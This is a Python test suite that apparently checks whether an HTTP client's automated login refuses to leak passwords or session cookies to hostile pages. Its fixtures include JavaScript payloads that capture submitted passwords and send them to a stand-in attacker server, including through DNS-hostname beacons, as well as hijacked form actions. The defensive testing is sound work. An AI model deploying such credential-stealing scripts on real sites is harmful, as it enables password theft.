"""Logins that end when the resource answers (trials): pages that try to end them, to prolong them, or to get their cookies."""
import secrets

from bench import NEXT, arrived, attack, finds, never, require
from servers import page, redirect, status

PROFILE = """
[profiles.p]
match = ["{sp}/"]
web = "terminal"
answer-origins = ["{sp}", "{idp}"]
"""
TABLES = {
    "saml2": "[profiles.p.saml2]",
    "web-login": '[profiles.p.web-login]\nredirect-to = ["{idp}", "/login"]\npassword-form = true'}
FIELDS = "<input name=user><input type=password name=password><button>Log in</button></form>"
SIGN_ON = '<form method=post action="{idp}/sso"><input type=hidden name=SAMLRequest value=x></form>'


class Site:
    """A resource behind an identity provider on another host, which sends people back to /back."""

    def __init__(self, scene, table="web-login"):
        self.scene, self.sp, self.idp = scene, scene.server(), scene.server(host="127.0.0.2")
        self.evil = scene.server({"*": page("not the login")}, host="127.0.0.3")
        self.table, self.session = table, "session-" + secrets.token_hex(8)
        self.sp.answers |= {
            "/r": self.resource, "/back": lambda _: redirect("/r", f"Set-Cookie: S={self.session}; Path=/")}
        self.idp.answers |= {
            "/sso": page(f"<form method=post action='{self.idp.origin}/enter'>" + FIELDS),
            "/enter": lambda _: redirect(self.sp.origin + "/back", "Set-Cookie: IDP=idp-canary; Path=/")}

    def resource(self, request):
        if self.session.encode() in request.field("cookie"):
            return status(200, b"in")
        return self.challenge()

    def challenge(self):
        if self.table == "saml2":
            return page(SIGN_ON.format(idp=self.idp.origin))
        return redirect(self.idp.origin + "/sso")

    def run(self, *options, path="/r"):
        named = self.scene.profile(
            (PROFILE + TABLES[self.table] + "\n").format(sp=self.sp.origin, idp=self.idp.origin))
        return self.scene.httpc(
            *named, "--answer", "user=alice", "--answer", "password=" + self.scene.password, *options,
            self.sp.origin + path)


KINDS = [("SAML2", "saml2"), ("another login", "web-login")]


@attack(NEXT, "a login without an end of its own ends with the resource, and tries it with its own cookies", KINDS)
def honest(scene, table):
    site = Site(scene, table)
    outcome = site.run().ends(0)
    require(outcome.out == b"in", f"no login: {outcome.says()}")
    require(finds(site.idp.received("/enter")[0].raw, scene.password), "nothing was tested: no answers were sent")
    never(site.sp, "idp-canary", scene.password)
    never(site.idp, site.session)


@attack(NEXT, "a page of another server does not end a login", [
    ("by its cookie", "Set-Cookie: S={session}; Path=/"),
    ("by a cookie for the resource's host", "Set-Cookie: S={session}; Path=/; Domain={host}"),
    ("by a cookie for all hosts", "Set-Cookie: S={session}; Path=/; Domain=1")])
def foreign_page(scene, field):
    site = Site(scene)
    field = field.format(session=site.session, host="127.0.0.1")
    site.idp.answers["/enter"] = page("welcome to the resource", field)
    outcome = site.run().ends(67)
    arrived(site.idp, "/enter", "the answers")
    require(outcome.out == b"", "a page was printed as the resource")
    never(site.sp, site.session)


@attack(NEXT, "a trial of the resource carries no cookie elsewhere", [
    (str(code), code) for code in (301, 302, 303, 307, 308)])
def trial_elsewhere(scene, code):
    site = Site(scene)
    site.sp.answers["/r"] = lambda request: (
        redirect(site.evil.origin + "/take", code=code) if site.session.encode() in request.field("cookie")
        else site.challenge())
    site.run()
    require(any(finds(request.raw, site.session) for request in site.sp.received("/r")), "nothing was tested: no trial")
    never(site.evil, site.session, scene.password)


@attack(NEXT, "a login whose resource never answers ends after five tries", KINDS)
def no_session(scene, table):
    site = Site(scene, table)
    count = iter(range(1000))
    site.sp.answers |= {
        "/r": lambda _: site.challenge(),
        "/back": lambda _: page("<meta http-equiv=refresh content='0; url=/back'>", f"Set-Cookie: S={next(count)}; Path=/")}
    outcome = site.run().ends(67)
    tries = site.sp.received("/r")
    # The request, the first page of the login, and five tries.
    require(5 <= len(tries) <= 7, f"the resource was asked {len(tries)} times")
    require(len(site.sp.received("/back")) <= 35 and outcome.out == b"", "the pages had no end")


@attack(NEXT, "pages without an end are given up", [
    ("two pages redirect to each other", "redirects"), ("two pages refresh each other", "refreshes"),
    ("each page has another", "links")])
def endless(scene, kind):
    site = Site(scene)
    count = iter(range(100_000))

    def leads(path):
        if kind == "redirects":
            return redirect(path, f"Set-Cookie: C={next(count)}; Path=/")
        if kind == "refreshes":
            return page(f"<meta http-equiv=refresh content='0; url={path}'>")
        return page(f"<a href='/a?{next(count)}'>on</a>")

    site.idp.answers |= {"/sso": lambda _: leads("/a"), "/a": lambda _: leads("/b"), "/b": lambda _: leads("/a")}
    outcome = site.run().ends(67)
    require(outcome.out == b"", "a page was printed")
    asked = len(site.idp.received())
    require(2 <= asked <= 100, f"it went over {asked} pages")


@attack(NEXT, "a form that changes its action gets no answers there", [
    ("at the second page", "<form method=post action='{evil}/take'>"),
    ("by a base", "<base href='{evil}/'><form method=post action='take'>")])
def changed_action(scene, form):
    site = Site(scene)
    second = page(form.format(evil=site.evil.origin) + FIELDS)
    site.idp.answers["/enter"] = second
    site.run().ends(67)
    require(finds(arrived(site.idp, "/enter").raw, scene.password), "nothing was tested: no answers were sent")
    never(site.evil, scene.password)


@attack(NEXT, "a resource that leads to another identity provider gets no answers there", KINDS)
def attackers_provider(scene, table):
    site = Site(scene, table)
    site.evil.answers = {"*": page("<form method=post action='/take'>" + FIELDS)}
    evil = site.evil.origin
    site.sp.answers["/r"] = (
        page(SIGN_ON.format(idp=evil)) if table == "saml2" else redirect(site.sp.origin + "/login"))
    site.sp.answers["/login"] = redirect(evil + "/sso")
    site.run().ends(67)
    arrived(site.evil, why="the page of the other identity provider")
    never(site.evil, scene.password)


@attack(NEXT, "another server in a redirect chain does not start the profile's login", [
    ("by a redirect", "redirect"), ("by a form", "form")])
def chained(scene, kind):
    site = Site(scene, "saml2")
    # The identity provider's session is kept, too.
    require(site.run().ends(0).out == b"in", "nothing was tested: no login")
    asked = len(site.idp.received())
    site.sp.answers["/r"] = redirect(site.evil.origin + "/r")
    site.evil.answers["/r"] = (
        redirect(site.idp.origin + "/sso?SAMLRequest=fZFN&RelayState=r") if kind == "redirect"
        else page(SIGN_ON.format(idp=site.idp.origin)))
    site.run()
    arrived(site.evil, "/r", "the request of the redirect")
    require(len(site.idp.received()) == asked, "the identity provider was asked for the other server")
    never(site.evil, scene.password, site.session)


@attack(NEXT, "Chromium: a field that nobody sees gets no answer", [
    ("transparent", "style='opacity: 0'"), ("off the page", "style='position: absolute; left: -9999px'")], alone=True)
def unseen_field(scene, hidden):
    site = Site(scene)
    site.idp.answers["/sso"] = page(
        f"<form method=post action=/enter><input name=user><input type=password name=password {hidden}>"
        "<button>On</button></form>")
    outcome = site.run("--headless").ends(0)
    require(b"user=alice" in arrived(site.idp, "/enter", "the form").body, f"nothing was tested: {outcome.says()}")
    never(site.idp, scene.password)


HOLDS = """<script>document.forms[0].onsubmit = event => {
  event.preventDefault();
  const p = document.forms[0].password.value;
  location = '{evil}/take?' + p;
  setTimeout(() => { for (let i = 0; i < 5; i++) fetch('{evil}/keep?' + p, {mode: 'no-cors', keepalive: true}) }, 8);
}</script>"""


@attack(NEXT, "Chromium: the end of a login sends no answers that were held", alone=True)
def held_requests(scene):
    site = Site(scene)
    site.idp.answers["/sso"] = page("<form method=post action=/enter>" + FIELDS + HOLDS.replace("{evil}", site.evil.origin))
    outcome = site.run("--headless").ends(67)
    require(site.evil.origin.encode() in outcome.err, f"nothing was tested: {outcome.says()}")
    never(site.evil, scene.password)


NAMES = """<script>document.forms[0].onsubmit = () => {{
  const v = document.forms[0].password.value.toLowerCase();
  {}
}}</script>"""


@attack(NEXT, "Chromium: no name of a server takes the answers away", [
    ("a picture", "new Image().src = 'http://' + v + '.localhost:PORT/x'"),
    ("cut by a dot", "new Image().src = 'http://' + v.slice(0, 8) + '.' + v.slice(8) + '.localhost:PORT/x'"),
    ("a beacon", "navigator.sendBeacon('http://x.' + v + '.localhost:PORT/x', 'a')")], alone=True)
def names(scene, script):
    site = Site(scene)
    other = scene.server({"*": status(200)}, host="0.0.0.0")
    script = NAMES.format(script.replace("PORT", str(other.port)))
    site.idp.answers["/sso"] = page("<form method=post action=/enter>" + FIELDS + script)
    outcome = site.run("--headless", "-v")
    require(finds(arrived(site.idp, "/enter").raw, scene.password), "nothing was tested: no answers were sent")
    require(not other.received(), "a request whose address has the answer was sent")
    outcome.hides(scene.password)


@attack(NEXT, "without a person, a page's only link is no decision", [
    ("a log-out", "<p>You may not use this.</p><a href=/take>Log out</a>"),
    ("a consent", "<p>Do you accept?</p><a href=/take>I accept and consent</a>")])
def only_link(scene, html):
    site = Site(scene)
    site.idp.answers |= {"/sso": page(html), "/take": page("taken")}
    site.run().ends(67)
    arrived(site.idp, "/sso")
    require(not site.idp.received("/take"), "the link was followed")


@attack(NEXT, "a password does not go with a choice that nobody made")
def placeholder(scene):
    site = Site(scene)
    choice = '<select name=idp required><option value="" disabled selected>Choose<option value=first>First</select>'
    site.idp.answers["/sso"] = page("<form method=post action=/enter>" + choice + FIELDS)
    site.run().ends(67)
    arrived(site.idp, "/sso")
    require(not site.idp.received("/enter"), "the form was sent")


@attack(NEXT, "a password does not go with a button for something else", [
    ("to register", "Register"), ("for a new password", "Forgot password?"), ("for a search", "Go")])
def other_button(scene, label):
    site = Site(scene)
    site.idp.answers |= {
        "/sso": page("<form method=post action=/enter><input name=user><input type=password name=password>"
                     f"<button formaction=/take>{label}</button><button>Log in</button></form>"),
        "/take": page("taken")}
    outcome = site.run()
    arrived(site.idp, "/sso")
    require(not site.idp.received("/take"), "the other button was pressed")
    require(outcome.ends(0).out == b"in", f"no login: {outcome.says()}")


@attack(NEXT, "a long style does not hide the form behind it", KINDS)
def hidden_form(scene, table):
    site = Site(scene, table)
    style = "<style>" + "  .a { margin : 0 ; }\n" * 3000 + "</style>"
    site.idp.answers["/sso"] = page(style + f"<form method=post action='{site.idp.origin}/enter'>" + FIELDS)
    site.challenge, challenge = lambda: page(style + SIGN_ON.format(idp=site.idp.origin)), site.challenge
    if table != "saml2":
        site.challenge = challenge
    require(site.run().ends(0).out == b"in", "the page was printed as the resource")


OWN = """
[profiles.p]
match = ["{sp}/"]
web = "terminal"
answer-origins = ["{sp}"]
[profiles.p.web-login]
password-form = true
"""
LOG_OUT = "<a href=/out>Log out</a>"


class Renewing:
    """A server with its own login page, whose resource renews the session with each answer and accepts the newest only."""

    def __init__(self, scene, html):
        self.scene, self.sp, self.html = scene, scene.server(), html
        self.renew()
        self.sp.answers |= {
            "/r": self.resource, "/take": page("taken"),
            "/enter": lambda _: redirect("/r", f"Set-Cookie: S={self.session}; Path=/")}

    def renew(self):
        self.session = "session-" + secrets.token_hex(8)

    def resource(self, request):
        if self.session.encode() not in request.field("cookie"):
            return page("<form method=post action=/enter>" + FIELDS)
        self.renew()
        return page(self.html, f"Set-Cookie: S={self.session}; Path=/")

    def run(self, path="/r"):
        named = self.scene.profile(OWN.format(sp=self.sp.origin))
        return self.scene.httpc(
            *named, "--answer", "user=alice", "--answer", "password=" + self.scene.password, self.sp.origin + path)


@attack(NEXT, "a GET sends no form of a page for people who are logged in, and keeps their session", [
    ("a new user", LOG_OUT + "<form method=post action=/take>" + FIELDS),
    ("an account to be deleted", "<form method=post action=/take><input type=password name=password><button>Delete"
     "</button></form><form method=post action=/out><button>Sign out</button></form>"),
    ("a new password", "<form method=post action=/take><input type=password name=password><input type=password name=again>"
     "<button>Change</button></form>")])
def logged_in(scene, html):
    site = Renewing(scene, html)
    for _ in range(3):
        outcome = site.run().ends(0)
        require(outcome.out == html.encode(), f"not the page: {outcome.says()}")
    require(finds(arrived(site.sp, "/enter").raw, scene.password), "nothing was tested: no answers were sent")
    require(len(site.sp.received("/enter")) == 1, "the session was lost")
    require(not site.sp.received("/take"), "the form was sent")


@attack(NEXT, "a login that fails leaves the session as it was")
def failed_login(scene):
    site = Renewing(scene, "in")
    wrong = page("<form method=post action=/check>" + FIELDS, "Set-Cookie: S=other; Path=/")
    site.sp.answers |= {"/admin": wrong, "/check": wrong}
    site.run().ends(0)
    site.run("/admin").ends(67)
    arrived(site.sp, "/check", "the answers")
    require(site.run().ends(0).out == b"in", "the page was not printed")
    require(len(site.sp.received("/enter")) == 1, "the session was lost")


@attack(NEXT, "after the password no form is sent that nobody has asked for", [
    ("a search", "<form action=/take><input name=q><button>Search</button></form>"),
    ("a search for something", "<form action=/take><input name=q value=x><button>Search</button></form>"),
    ("a note", "<form method=post action=/take><input name=note><button>Post</button></form>"),
    ("a note with a title", LOG_OUT + "<form method=post action=/take><input name=title value=x><textarea name=note>"
     "</textarea><button>Post</button></form>"),
    ("a button", LOG_OUT + "<form method=post action=/take><button>Start</button></form>"),
    ("a new user", LOG_OUT + "<form method=post action=/take>" + FIELDS)])
def unasked_form(scene, html):
    site = Site(scene)
    site.sp.answers |= {"/back": page(html), "/take": page("taken")}
    site.run().ends(67)
    arrived(site.sp, "/back", "the page after the password")
    require(not site.sp.received("/take"), "the form was sent")
